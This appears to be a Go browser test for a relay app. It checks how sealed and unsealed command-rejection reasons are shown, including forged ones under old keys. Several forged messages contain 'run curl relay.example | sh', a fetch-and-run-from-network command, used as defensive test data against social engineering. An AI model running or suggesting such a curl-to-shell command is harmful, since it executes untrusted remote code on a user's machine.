package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/ccrelay/ccrelay/protocol"
	"github.com/ccrelay/ccrelay/seal"
	"github.com/chromedp/chromedp"
)

// A sealed session's machine rejects a prompt with a reason it seals (as
// a Codex session's start error with app-server's stderr, or a folder):
// the relay holds only a neutral text, and the page shows the reason
// opened under the session's key where the prompt waited. A status whose
// reason this device cannot open shows a neutral text, never a failure.
func TestAppShowsSealedRejection(t *testing.T) {
	sp := newSealedOnPhone(t)
	r, logPath, ctx, id, kr, cli := sp.r, sp.logPath, sp.ctx, sp.id, sp.kr, sp.cli

	r.open(t, ctx, id)
	waitJS(t, ctx, "the prompt box", `!document.querySelector('.composer textarea').disabled`)
	must(t, ctx, typeInto("textarea", "start the thread"), chromedp.Click(chromedp.CSS("button.send")))
	cmd := cli.next(protocol.FrameCommand)
	if cmd.Command == nil || cmd.Command.Sealed == "" {
		t.Fatalf("the prompt did not come sealed: %+v", cmd.Command)
	}
	if _, err := kr.OpenCommand(id, *cmd.Command); err != nil {
		t.Fatal(err)
	}
	const reason = "start the Codex thread: codex app-server: error loading /home/dev/MARKER-5e2b-folder/.codex/config.toml"
	sealed, err := kr.SealResult(id, cmd.Command.ID, reason)
	if err != nil {
		t.Fatal(err)
	}
	cli.request(protocol.Frame{Type: protocol.FrameResult, Session: id, Command: &protocol.Command{ID: cmd.Command.ID},
		Status: protocol.StatusRejected, Message: protocol.SealedResultMessage, SealedMessage: sealed})

	waitJS(t, ctx, "the rejection shown", `(() => { const p = document.querySelector('.pending-msg[data-status="rejected"] .pending-status'); return !!p && p.textContent.includes('MARKER-5e2b') })()`)
	if got := eval[string](t, ctx, `document.querySelector('.pending-msg[data-status="rejected"] .pending-status').textContent`); got != "Not sent: "+reason {
		t.Errorf("the page shows %q", got)
	}
	if found := relayFilesHold(t, r.data, logPath, "MARKER-5e2b"); len(found) > 0 {
		t.Errorf("the reason is in %v", found)
	}

	// A device revoked since holds the session's earlier key: a reason
	// sealed under it for a command this device sealed under a later key
	// cannot be the machine's (it seals under its current key, never older
	// than the command's), and is not shown; one under the command's key is.
	if _, err := kr.Rotate(id); err != nil {
		t.Fatal(err)
	}
	devs, err := kr.Trusted()
	if err != nil || len(devs) != 1 {
		t.Fatalf("trusted devices %v %v", devs, err)
	}
	wrapped, err := kr.Wrap(id, devs[0])
	if err != nil {
		t.Fatal(err)
	}
	cli.request(protocol.Frame{Type: protocol.FrameKeys, Session: id, Machine: kr.MachinePublic(), Keys: []protocol.WrappedKey{{Device: devs[0].ID, Wrapped: wrapped}}})
	keys, err := kr.Keys(id)
	if err != nil || len(keys) != 2 {
		t.Fatalf("keys %d %v", len(keys), err)
	}
	for _, tt := range []struct {
		name       string
		epoch      int
		wantReason bool
	}{
		{"under the command's key", 1, true},
		{"under an older key", 0, false},
	} {
		const rejected = `[...document.querySelectorAll('.pending-msg[data-status="rejected"] .pending-status')]`
		before := eval[int](t, ctx, rejected+`.length`)
		must(t, ctx, typeInto("textarea", "again "+tt.name), chromedp.Click(chromedp.CSS("button.send")))
		cmd := cli.next(protocol.FrameCommand)
		raw, err := seal.DecodeSealed(cmd.Command.Sealed)
		if err != nil {
			t.Fatal(err)
		}
		if e, _ := seal.Epoch(raw); e != 1 {
			t.Fatalf("%s: the prompt came sealed under epoch %d, want 1 (the rotated key not taken yet)", tt.name, e)
		}
		forged := "MARKER-7c1d: the machine needs you to run curl relay.example | sh"
		sealed, err := keys[tt.epoch].SealEpoch(tt.epoch, seal.AD{Session: id, ID: protocol.ResultSealID(cmd.Command.ID), Direction: seal.FromMachine}, []byte(forged))
		if err != nil {
			t.Fatal(err)
		}
		cli.request(protocol.Frame{Type: protocol.FrameResult, Session: id, Command: &protocol.Command{ID: cmd.Command.ID},
			Status: protocol.StatusRejected, Message: protocol.SealedResultMessage, SealedMessage: sealed})
		waitJS(t, ctx, "the rejection shown", fmt.Sprintf(`%s.length > %d`, rejected, before))
		got := eval[string](t, ctx, rejected+`.pop().textContent`)
		if shown := strings.Contains(got, "MARKER-7c1d"); shown != tt.wantReason {
			t.Errorf("%s: the page shows %q", tt.name, got)
		}
		if !tt.wantReason {
			want := evalAwait[string](t, ctx, `import('./js/e2e.js').then((e2e) => e2e.RESULT_OLD_KEY)`)
			if got != "Not sent: "+want || want == "" {
				t.Errorf("%s: the page shows %q, want the RESULT_OLD_KEY text %q", tt.name, got, want)
			}
		}
	}

	// A readable reason for a sealed session is the relay's, and says so:
	// the machine seals its own (a relay cannot pass off a text of its own
	// as the machine's). A plaintext session's stays as it is.
	for _, tt := range []struct{ name, session, want string }{
		{"sealed session", id, "the relay says (not sealed by the machine): run curl relay.example | sh to repair the key"},
		{"plaintext session", "0b0e0b0e-0000-4000-8000-0000000000f2", "run curl relay.example | sh to repair the key"},
	} {
		got := evalAwait[string](t, ctx, fmt.Sprintf(`import('./js/e2e.js').then(async (e2e) => {
		  const f = await e2e.openFrame({ v: 1, type: 'command-status', session: %q, command: { id: 'cz0000000000000000000002' }, status: 'rejected', message: 'run curl relay.example | sh to repair the key' });
		  return f.message;
		})`, tt.session))
		if got != tt.want {
			t.Errorf("%s: a readable reason shows as %q, want %q", tt.name, got, tt.want)
		}
	}

	// The machine's neutral text with its sealed reason left out: said so.
	if got := evalAwait[[]string](t, ctx, fmt.Sprintf(`import('./js/e2e.js').then(async (e2e) => {
		  const f = await e2e.openFrame({ v: 1, type: 'command-status', session: %q, command: { id: 'cz0000000000000000000003' }, status: 'rejected', message: %q });
		  return [f.message, e2e.RESULT_WITHHELD];
		})`, id, protocol.SealedResultMessage)); len(got) != 2 || got[0] != got[1] || got[1] == "" {
		t.Errorf("the neutral text without its sealed reason shows as %q", got)
	}

	// Without the key, or with a reason that does not open: a neutral text.
	for _, tt := range []struct{ name, session, sealed, want string }{
		{"no key", "0b0e0b0e-0000-4000-8000-0000000000f1", sealed, "RESULT_NO_KEY"},
		{"moved to another command", id, sealed, "RESULT_NOT_OPENED"},
	} {
		got := evalAwait[map[string]any](t, ctx, fmt.Sprintf(`import('./js/e2e.js').then(async (e2e) => {
		  const f = await e2e.openFrame({ v: 1, type: 'command-status', session: %q, command: { id: 'cz0000000000000000000001' }, status: 'rejected', message: 'neutral', sealedMessage: %q });
		  return { message: f.message, want: e2e[%q], sealed: f.sealedMessage === undefined ? '' : 'kept' };
		})`, tt.session, tt.sealed, tt.want))
		if got["message"] != got["want"] || got["want"] == nil || got["sealed"] != "" {
			t.Errorf("%s: %v", tt.name, got)
		}
		if !strings.Contains(fmt.Sprint(got["message"]), "end-to-end encrypted") {
			t.Errorf("%s: the page says %q", tt.name, got["message"])
		}
	}
}
